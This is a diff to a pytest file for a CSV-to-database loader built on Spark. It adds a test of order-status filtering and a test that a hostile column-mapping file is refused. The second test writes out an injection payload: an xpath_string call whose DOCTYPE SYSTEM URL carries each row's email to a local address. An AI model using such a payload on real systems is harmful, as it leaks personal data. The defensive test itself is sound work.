@@ -201,6 +201,46 @@ def test_three_commands_bring_own_customers_to_results(tmp_path: Path, database:
     assert fetch(database, "SELECT count(*) FROM analytics.rejected_customers") == [(100,)]
 
 
+@pytest.mark.spark
+@pytest.mark.skipif(not (find_spec("tomllib") or find_spec("tomli")), reason="no reader of TOML")
+def test_orders_that_do_not_count_are_asked_about_and_left_out(tmp_path: Path, database: Database) -> None:
+    """The plan shows the condition, and the mapping has it behind a #."""
+    statuses = ["Approved"] * 7 + ["Cancelled"] * 2 + [""]
+    lines = [f"{9000 + i},{i % 2},2024-01-0{1 + i % 9},10.00,{status}" for i, status in enumerate(statuses)]
+    (tmp_path / "orders.csv").write_text("\n".join(["id,customer_id,order_date,amount,order_status", *lines]))
+    at = ["--database", database.url, "--master", "local[2]"]
+
+    asked = load(tmp_path, "--transactions", "orders.csv", *at)
+    assert "note: order_status has Approved (7), Cancelled (2) among the first rows" in asked.stdout
+    mapping = tmp_path / "orders.mapping.toml"
+    mapping.write_text(mapping.read_text().replace("# where =", "where ="))
+    done = load(tmp_path, "--transactions", "orders.csv", "--yes", "--json", *at)
+
+    assert done.returncode == 0, done.stderr
+    found = json.loads(done.stdout)
+    assert (found["rows_in"], found["rows_loaded"], found["rows_rejected"], found["rows_left_out"]) == (
+        10,
+        8,
+        0,
+        2,
+    )
+    assert fetch(database, "SELECT sum(account_balance) FROM public.customers") == [(80,)]
+
+
+def test_a_hostile_mapping_beside_the_file_leaks_nothing(tmp_path: Path) -> None:
+    """It is found by its name, and used without a question; what it calls is refused before Spark starts."""
+    (tmp_path / "members.csv").write_text("id,joined,email\n1,2024-01-02,a@example.com\n")
+    leak = "xpath_string(concat('<!DOCTYPE a SYSTEM \"http://127.0.0.1:9/', email, '\"><a/>'), 'a')"
+    (tmp_path / "members.mapping.toml").write_text(
+        f"[columns]\ncustomer_id = 'id'\njoin_date = 'joined'\ncity = '''{leak}'''\n"
+    )
+
+    run = load(tmp_path, "members.csv", "--yes", "--dry-run", "--master", "no-such-master")
+
+    assert run.returncode == 1
+    assert "the mapping of city calls xpath_string(), which a mapping may not call" in run.stderr.splitlines()[-1]
+
+
 def test_a_mapping_of_columns_starts_no_spark(tmp_path: Path, database: Database) -> None:
     """Nor is it imported, nor pandas: most files take a second, not the ten that Spark takes to start."""
     path = personality(tmp_path)
